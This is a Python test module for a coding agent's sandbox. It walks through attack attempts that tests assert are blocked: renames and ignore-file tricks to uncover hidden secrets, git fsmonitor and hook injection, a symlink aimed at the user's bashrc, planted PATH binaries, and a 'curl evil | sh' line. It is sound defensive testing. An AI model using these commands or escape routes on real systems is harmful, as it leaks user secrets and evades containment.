"""The second attack round (issue 32): what the agent controls must never decide what
it may see, and nothing it writes may make the host act. One test (or property) per
class of what broke, run as root where root is the threat (CI runs as root)."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agent.sandbox import Sandbox
from agent.workspace import (
    CHECKPOINT_IN_MEMORY_BYTES,
    MAX_CHECKPOINT_BYTES,
    SpilledCheckpoint,
    Workspace,
)
from index.ignore import SECRET_NAME_PATTERNS, is_secret_name
from index.indexer import CodeIndex, CodeIndexError
from tests.agent.test_security import as_root, git, needs_bwrap
from tests.agent.tool_helpers import fails, ok
from tests.conftest import call_tool, make_context, make_repo

SECRET = "local secret 7f3a"
KEY = "hunter2"


def leaked(text: str) -> bool:
    return SECRET in text or KEY in text


def with_config_folder(repo: Path) -> Path:
    """config/ holds a secret file and a file the root's anchored rule ignores."""
    (repo / ".gitignore").write_text("build/\n*.log\n/config/local.yaml\n")
    (repo / "config").mkdir()
    (repo / "config" / "local.yaml").write_text(f"token: {SECRET}\n")
    (repo / "config" / ".env").write_text(f"KEY={KEY}\n")
    (repo / "config" / "app.yaml").write_text("name: demo\n")
    return repo


# ------------------------------------- visibility decided by what the agent changes
@needs_bwrap
@as_root
@pytest.mark.parametrize("how", ["marker", "rename"])
async def test_an_ignored_folder_made_to_look_like_an_environment_stays_hidden(repo, how):
    """A folder counts as an environment (shown to commands as it is) only when the
    user's rules ignored it before the run: writing a pyvenv.cfg into it, or moving it
    under a tool's name, and then ignoring it uncovers nothing."""
    ctx = make_context(with_config_folder(repo))
    if how == "marker":
        await ok(ctx, "write_file", path="config/pyvenv.cfg", content="home = /usr/bin")
        ignored = "config/"
    else:
        await ok(ctx, "run_terminal_cmd", command="mv config node_modules; ls")
        ignored = "node_modules/\nconfig/"
    await ok(ctx, "write_file", path=".gitignore", content=f"build/\n*.log\n{ignored}\n")
    for folder in ("config", "node_modules"):
        content = await ok(
            ctx,
            "run_terminal_cmd",
            command=f"cat {folder}/local.yaml {folder}/.env; ls -a {folder}",
        )
        assert not leaked(content), content
        _, shown = await call_tool(ctx, "read_file", path=f"{folder}/local.yaml")
        assert not leaked(shown)
    folder = "config" if how == "marker" else "node_modules"
    assert (repo / folder / "local.yaml").read_text() == f"token: {SECRET}\n"


async def test_file_tools_alone_cannot_make_an_environment_of_a_folder(repo):
    ctx = make_context(with_config_folder(repo))
    await ok(ctx, "write_file", path="config/pyvenv.cfg", content="home = /usr/bin")
    await ok(ctx, "write_file", path=".gitignore", content="build/\nconfig/\n")
    assert "excluded" in await fails(ctx, "read_file", path="config/local.yaml")


async def test_a_new_ignore_file_cannot_negate_what_the_rules_hid(repo):
    """An ignore file the agent writes is read as it was before (absent): its `!`
    cannot uncover a file the user's rules hid, even in a folder no one read yet."""
    (repo / ".gitignore").write_text("build/\n*.log\nlocal.cfg\n")
    (repo / "sub").mkdir()
    (repo / "sub" / "local.cfg").write_text(f"{SECRET}\n")
    ctx = make_context(repo)
    await ok(ctx, "write_file", path="sub/.gitignore", content="!local.cfg\n")
    assert "excluded" in await fails(ctx, "read_file", path="sub/local.cfg")
    await ok(ctx, "write_file", path=".gitignore", content="build/\n")
    assert "excluded" in await fails(ctx, "read_file", path="sub/local.cfg")


@needs_bwrap
@as_root
async def test_renaming_the_folder_above_a_hidden_file_uncovers_nothing(repo):
    """Rules are path patterns: renaming a hidden file's parent leaves anchored
    patterns matching nothing and reads the folder's own ignore files afresh. What was
    hidden is known by its inode, so it stays hidden at its new path, to commands and
    to the file tools alike."""
    with_config_folder(repo)
    (repo / "config" / ".gitignore").write_text("*.dat\n")
    (repo / "config" / "deep").mkdir()
    (repo / "config" / "deep" / "keys.dat").write_text(f"{SECRET}\n")
    ctx = make_context(repo)
    first = await ok(
        ctx,
        "run_terminal_cmd",
        command="mv config conf2 && echo '!*.dat' > conf2/.tachyignore && "
        "echo '!local.yaml' > conf2/.gitignore; mv conf2/deep conf2/d2; ls -R . | head -50",
    )
    second = await ok(
        ctx,
        "run_terminal_cmd",
        command="cat conf2/local.yaml conf2/d2/keys.dat conf2/.env 2>&1; "
        "grep -r -a -h 'local secret' . 2>/dev/null; true",
    )
    assert not leaked(first + second), second
    for path in ("conf2/local.yaml", "conf2/d2/keys.dat"):
        assert not leaked(await fails(ctx, "read_file", path=path))
    listing = await ok(ctx, "list_dir", path="conf2", depth="3")
    assert "local.yaml" not in listing and "keys.dat" not in listing
    # Nothing is lost: the files are where the command moved them.
    assert (repo / "conf2" / "d2" / "keys.dat").read_text() == f"{SECRET}\n"


@needs_bwrap
@as_root
@settings(
    max_examples=12,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.lists(
        st.sampled_from(["config", "config/deep", "config/deep/x", "top", "top/config"]),
        min_size=1,
        max_size=4,
    ),
    st.sampled_from(["", "node_modules", "n/venv", ".venv", "conf2"]),
)
async def test_no_rename_sequence_uncovers_a_hidden_file(tmp_path_factory, sources, target):
    repo = make_repo(tmp_path_factory.mktemp("rename") / "repo")
    with_config_folder(repo)
    (repo / "config" / "deep").mkdir()
    (repo / "config" / "deep" / "id_rsa").write_text(f"{SECRET}\n")
    ctx = make_context(repo)
    moves = "; ".join(
        f"mkdir -p $(dirname {target or 'moved'}/{s}) && mv {s} {target or 'moved'}/{s}"
        for s in sources
    )
    await ok(ctx, "run_terminal_cmd", command=f"{moves}; true")
    await ok(ctx, "write_file", path=".gitignore", content="node_modules/\n.venv/\nvenv/\n")
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command="grep -r -a -h -e 'local secret' -e hunter2 . 2>/dev/null; "
        "find . -name id_rsa -exec cat {} + 2>/dev/null; true",
    )
    assert not leaked(content), (sources, target, content)


@settings(max_examples=40, deadline=None)
@given(back_by_ns=st.integers(min_value=-(10**18), max_value=10**12), quiet=st.booleans())
def test_a_folder_whose_modification_time_is_set_back_is_read_again(
    tmp_path_factory, back_by_ns, quiet
):
    """The scan's cache is keyed by the folder's change time too, which no command
    can set back: a secret moved in under a re-timed folder is found whatever time
    the folder is given."""
    repo = make_repo(tmp_path_factory.mktemp("retime") / "repo")
    (repo / "pkg").mkdir()
    (repo / "pkg" / "mod.py").write_text("x = 1\n")
    if quiet:  # folders that look long untouched, so the cache is trusted
        for folder in (repo, repo / "pkg", repo / "src", repo / "tests"):
            os.utime(folder, (1_000_000_000, 1_000_000_000))
    sandbox = Sandbox(Workspace(repo))
    assert not any(m.rel.startswith("pkg/") for m in sandbox.hidden_paths())
    stamp = os.stat(repo / "pkg").st_mtime_ns
    (repo / "pkg" / "Credentials.json").write_text(f"{SECRET}\n")
    when = max(0, stamp - back_by_ns)
    os.utime(repo / "pkg", ns=(when, when))
    hidden = {m.rel for m in sandbox.hidden_paths() if m.action == "hide"}
    assert "pkg/Credentials.json" in hidden


@settings(max_examples=25, deadline=None)
@given(depth=st.integers(min_value=1, max_value=26))
def test_a_secret_at_any_depth_is_hidden(tmp_path_factory, depth):
    """Nested past PATH_MAX or not, a secret is hidden: itself, or a folder above it
    when it lies too deep to be named."""
    repo = make_repo(tmp_path_factory.mktemp("depth") / "repo")
    deep = _deep_folder(repo, depth)
    hidden = [m.rel for m in Sandbox(Workspace(repo)).hidden_paths() if m.action == "hide"]
    for leaf in (".env", "notes.log"):
        target = f"{deep}/{leaf}"
        assert any(target == rel or target.startswith(rel + "/") for rel in hidden), depth


def _deep_folder(repo: Path, depth: int) -> str:
    """Folders nested past PATH_MAX (made through handles), the deepest one holding a
    secret; returns the relative path of the deepest folder."""
    name = "d" * 200
    fd = os.open(repo, os.O_PATH | os.O_DIRECTORY)
    for _ in range(depth):
        os.mkdir(name, dir_fd=fd)
        child = os.open(name, os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)
    deep = "/".join([name] * depth)
    for leaf in (".env", "notes.log"):
        fd = os.open(
            os.path.join(f"/proc/self/fd/{_open_deep(repo, deep)}", leaf),
            os.O_WRONLY | os.O_CREAT,
        )
        os.write(fd, f"{SECRET}\n".encode())
        os.close(fd)
    return deep


def _open_deep(repo: Path, deep: str) -> int:
    fd = os.open(repo, os.O_PATH | os.O_DIRECTORY)
    for part in deep.split("/"):
        child = os.open(part, os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    return fd


@needs_bwrap
@as_root
async def test_a_folder_too_deep_to_examine_is_hidden(repo):
    """A folder the scan cannot examine (below a path longer than the system allows)
    is hidden whole, never skipped."""
    deep = _deep_folder(repo, 24)  # about 4,800 characters
    ctx = make_context(repo)
    hidden = [m for m in ctx.sandbox.hidden_paths() if m.action == "hide"]
    assert any(deep.startswith(m.rel + "/") for m in hidden)
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command="find . -name .env -o -name notes.log | wc -l; "
        "grep -r -a -h 'local secret' . 2>/dev/null; true",
    )
    assert not leaked(content), content


def test_a_folder_that_cannot_be_listed_is_hidden(repo, monkeypatch):
    (repo / "locked").mkdir()
    (repo / "locked" / "id_rsa").write_text(f"{SECRET}\n")
    real_scandir = os.scandir

    def scandir(path):
        if str(path).endswith("/locked"):
            raise PermissionError(13, "Permission denied", str(path))
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", scandir)
    hidden = {m.rel for m in Sandbox(Workspace(repo)).hidden_paths() if m.action == "hide"}
    assert "locked" in hidden


_CASES = st.lists(st.booleans(), min_size=1, max_size=40)


@settings(max_examples=300, deadline=None)
@given(st.sampled_from([p for p in SECRET_NAME_PATTERNS if "*" not in p]), _CASES)
def test_secret_names_match_in_any_letter_case(name, upper):
    varied = "".join(
        ch.upper() if upper[i % len(upper)] else ch.lower() for i, ch in enumerate(name)
    )
    assert is_secret_name(varied), varied
    assert is_secret_name(f"PROD{varied}" if name.startswith("*") else varied)


@pytest.mark.parametrize(
    "name", [".ENV", "ID_RSA", "Credentials.json", "Server.KEY", "prod.Env", ".Env.Local"]
)
async def test_secrets_in_upper_case_are_hidden_from_every_tool(repo, name):
    (repo / name).write_text(f"{SECRET}\n")
    ctx = make_context(repo)
    assert "secret" in await fails(ctx, "read_file", path=name)
    assert name not in await ok(ctx, "list_dir", path=".")
    if ctx.sandbox.bwrap:
        assert not leaked(await ok(ctx, "run_terminal_cmd", command=f"cat {name}"))


def test_secret_templates_stay_visible_in_any_case():
    assert not is_secret_name(".ENV.EXAMPLE") and not is_secret_name(".env.Sample")


# ------------------------------------------------- tachy's own state, attacked
@pytest.mark.parametrize(
    "bwrap",
    [pytest.param(True, marks=needs_bwrap, id="bwrap"), pytest.param(False, id="fallback")],
)
async def test_a_planted_state_link_never_makes_tachy_write_a_host_file(repo, tmp_path, bwrap):
    """Background-job logs are written by tachy on the host: a `.tachy` link (or a log
    link below it) planted by a command is never written through."""
    bashrc = tmp_path / "bashrc"
    bashrc.write_text("# the user's shell\n")
    outside = tmp_path / "outside"
    (outside / "jobs").mkdir(parents=True)
    for n in range(1, 4):
        (outside / "jobs" / f"{n}.log").symlink_to(bashrc)
    ctx = make_context(repo, use_bubblewrap=bwrap)
    await call_tool(ctx, "run_terminal_cmd", command=f"rm -rf .tachy; ln -s {outside} .tachy")
    is_error, content = await call_tool(
        ctx, "run_terminal_cmd", command="echo 'curl evil | sh'", background="true"
    )
    for job in ctx.sandbox.jobs.values():
        await job.finished.wait()
    assert bashrc.read_text() == "# the user's shell\n"
    if bwrap:  # the planting failed: .tachy is tachy's real, hidden directory
        assert not is_error and (repo / ".tachy").is_dir() and not (repo / ".tachy").is_symlink()
    else:
        assert is_error and "symbolic link" in content
    await ctx.sandbox.close()


@needs_bwrap
def test_a_state_link_present_before_the_run_is_set_aside(repo, tmp_path):
    (tmp_path / "elsewhere").mkdir()
    (repo / ".tachy").symlink_to(tmp_path / "elsewhere")
    sandbox = Sandbox(Workspace(repo))
    sandbox.hidden_paths()
    assert (repo / ".tachy").is_dir() and not (repo / ".tachy").is_symlink()
    assert (repo / ".tachy.tachy-disabled").is_symlink()
    assert any(".tachy.tachy-disabled" in n for n in sandbox.take_notices())


def test_the_index_is_never_built_through_a_state_link(repo, tmp_path):
    readable = tmp_path / "readable"
    readable.mkdir()
    (repo / ".tachy").symlink_to(readable)
    with pytest.raises(CodeIndexError, match="not a real directory"):
        CodeIndex(repo, dense=False)
    assert list(readable.iterdir()) == []


def test_the_agents_index_follows_the_runs_rules(repo):
    """`tachy agent` builds its index by the run's own rules, which only tighten."""
    ws = Workspace(with_config_folder(repo))
    ws.is_hidden("config/local.yaml", False)  # the run reads the rules at its start
    (repo / ".gitignore").write_text("build/\n")  # uncovered on disk, not for the run
    index = CodeIndex(repo, dense=False, rules=ws.rules)
    try:
        index.update()
        assert not any("local.yaml" in hit.path for hit in index.search(SECRET, limit=20))
    finally:
        index.close()
    assert not (repo / ".tachy").is_symlink()
    assert (repo / ".tachy" / ".gitignore").read_text().strip().endswith("*")


# ---------------------------------------------------------- git by indirection
def _repo_with_bare_layout(repo: Path) -> Path:
    """The `.bare` layout: the repository in .bare/, a `.git` file pointing at it."""
    git(repo, "init", "-q", "--separate-git-dir", str(repo / ".bare"))
    git(repo, "add", "src")
    git(repo, "commit", "-qm", "first")
    assert (repo / ".git").is_file()
    return repo


@needs_bwrap
@as_root
async def test_a_repository_reached_through_a_git_file_is_protected(repo, tmp_path):
    flag = tmp_path / "ran-on-the-host"
    _repo_with_bare_layout(repo)
    ctx = make_context(repo)
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command=f"git config core.fsmonitor 'touch {flag}'; "
        f"echo '[core]' >> .bare/config; echo 'touch {flag}' > .bare/hooks/post-checkout; "
        "git log --format=%s",
    )
    assert "first" in content  # the agent's git works
    assert "Read-only file system" in content
    assert "fsmonitor" not in (repo / ".bare" / "config").read_text()
    subprocess.run(["git", "-C", str(repo / "src"), "status"], capture_output=True, check=True)
    assert not flag.exists()


@needs_bwrap
async def test_a_secret_in_a_separate_repositorys_history_hides_it(repo, tmp_path):
    outside = tmp_path / "repo.git"
    git(repo, "init", "-q", "--separate-git-dir", str(outside))
    git(repo, "add", "-f", ".env", "src")
    git(repo, "commit", "-qm", "oops")
    git(repo, "rm", "-q", "--cached", ".env")
    git(repo, "commit", "-qm", "removed")
    # Commands see the machine read-only; the repository lies under /tmp here, which
    # the sandbox replaces, so it is bound in as one under $HOME would be seen.
    ctx = make_context(repo, read_only_paths=[str(outside)])
    assert "removed" in await ok(ctx, "run_terminal_cmd", command=f"ls {outside}; echo removed")
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command=f"git show HEAD~1:.env; git --git-dir={outside} log --all -p | cat; "
        f"cat {outside}/packed-refs; true",
    )
    assert KEY not in content


@needs_bwrap
@as_root
async def test_a_git_file_a_command_plants_is_set_aside(repo, tmp_path):
    flag = tmp_path / "ran-on-the-host"
    ctx = make_context(repo)
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command=f"mkdir -p sub && git init -q --bare sub/store && "
        f"git --git-dir=sub/store config core.fsmonitor 'touch {flag}' && "
        "echo 'gitdir: store' > sub/.git && echo made",
    )
    assert "made" in content and "set aside" in content
    subprocess.run(["git", "-C", str(repo / "sub"), "status"], capture_output=True)
    assert not flag.exists()
    assert not (repo / "sub" / ".git").exists()
    assert "fsmonitor" not in (repo / "sub" / "store" / "config").read_text()


@pytest.mark.parametrize(
    "path",
    ["sub/.git", ".git/config", "sub/.GIT/hooks/pre-commit", "pkg/.git/HEAD"],
)
async def test_the_file_tools_cannot_plant_git_metadata(repo, path):
    ctx = make_context(repo)
    error = await fails(ctx, "write_file", path=path, content="x")
    assert "repository metadata" in error or "excluded" in error  # .git is hidden too
    assert not (repo / path).exists()


async def test_the_file_tools_cannot_make_or_fill_a_bare_repository(repo):
    ctx = make_context(repo)
    await ok(ctx, "write_file", path="store/HEAD", content="ref: refs/heads/main")
    await ok(ctx, "write_file", path="store/objects/info/packs", content="")
    error = await fails(
        ctx, "write_file", path="store/refs/heads/main", content="0" * 40
    )  # this would complete HEAD + objects/ + refs/
    assert "takes for a repository" in error
    (repo / "store" / "refs").mkdir()
    error = await fails(
        ctx, "write_file", path="store/config", content="[core]\n\tfsmonitor = touch x\n"
    )
    assert "takes for a repository" in error


# ------------------------------------------------- limits that count files too
@pytest.mark.parametrize(
    "bwrap", [pytest.param(True, marks=needs_bwrap, id="bwrap"), pytest.param(False, id="fallback")]
)
async def test_a_command_that_creates_too_many_files_is_stopped(repo, bwrap):
    ctx = make_context(repo, use_bubblewrap=bwrap, file_quota=2_000)
    content = await ok(
        ctx,
        "run_terminal_cmd",
        command="mkdir many && cd many && i=0; while [ $i -lt 200000 ]; do : > f$i; "
        "i=$((i+1)); done; echo end",
        timeout_s="60",
    )
    assert "quota" in content and "files" in content
    created = len(os.listdir(repo / "many"))
    assert 2_000 < created < 150_000
    assert ctx.sandbox.files_created > 2_000


async def test_a_huge_sparse_file_is_refused_not_copied_into_memory(repo):
    with open(repo / "disk.img", "wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GiB that take no disk
    ctx = make_context(repo)
    for call in (
        {"name": "write_file", "path": "disk.img", "content": "x"},
        {"name": "delete_file", "path": "disk.img"},
    ):
        name = call.pop("name")
        assert "keeps none over" in await fails(ctx, name, **call)
    assert ctx.workspace.checkpoints == {}
    assert os.stat(repo / "disk.img").st_size == 2 * 1024**3


async def test_a_large_checkpoint_is_kept_on_disk_and_reverts_exactly(repo):
    data = os.urandom(3 * CHECKPOINT_IN_MEMORY_BYTES)
    (repo / "blob.bin").write_bytes(data)
    ctx = make_context(repo)
    ws = ctx.workspace
    await ok(ctx, "write_file", path="blob.bin", content="small now")
    kept = ws.checkpoints["blob.bin"]
    assert isinstance(kept, SpilledCheckpoint) and kept.size == len(data)
    assert not Path(kept.path).is_relative_to(repo)
    assert ws.changed_files() == ["blob.bin"]
    ws.revert("blob.bin")
    assert (repo / "blob.bin").read_bytes() == data
    assert not Path(kept.path).exists()
    assert ws.changed_files() == []
    assert len(data) < MAX_CHECKPOINT_BYTES


# ------------------------------------------- programs tachy runs on the host
def test_host_programs_are_never_taken_from_the_workspace(repo, tmp_path, monkeypatch):
    """A developer's PATH often holds the project's environment (or `.`): a `git` a
    command planted there must not be what tachy runs on the host."""
    flag = tmp_path / "ran-on-the-host"
    git(repo, "init", "-q")
    planted = repo / ".venv" / "bin"
    planted.mkdir(parents=True)
    for name in ("git", "bwrap", "prlimit"):
        (planted / name).write_text(f"#!/bin/sh\ntouch {flag}\n")
        (planted / name).chmod(0o755)
    monkeypatch.chdir(repo)
    monkeypatch.setenv("PATH", f"{planted}:.venv/bin:.:{os.environ['PATH']}")
    sandbox = Sandbox(Workspace(repo))
    assert sandbox._hidden.history.git and not sandbox._hidden.history.git.startswith(str(repo))
    assert sandbox.bwrap is None or not sandbox.bwrap.startswith(str(repo))
    sandbox.hidden_paths()
    assert not flag.exists()


@needs_bwrap
async def test_more_hidden_files_than_the_sandbox_mounts_are_hidden_by_folder(repo, monkeypatch):
    """Each mount makes bubblewrap slower to start: past MAX_MOUNTS the folders
    holding the most hidden files are hidden whole (fail closed), and the model is
    told."""
    import agent.sandbox

    monkeypatch.setattr(agent.sandbox, "MAX_MOUNTS", 60)
    for d in range(20):
        folder = repo / "logs" / f"day{d}"
        folder.mkdir(parents=True)
        for n in range(3):
            (folder / f"run{n}.log").write_text(f"{SECRET}\n")
        (folder / "keep.py").write_text("x = 1\n")
    ctx = make_context(repo)
    content = await ok(
        ctx, "run_terminal_cmd", command="grep -r -a -h 'local secret' . ; cat src/calc.py"
    )
    assert not leaked(content) and "def add" in content
    assert "commands see it as empty" in content
    mounts = ctx.sandbox.hidden_paths()
    assert sum(agent.sandbox._mounts_made(m) for m in mounts) <= 60
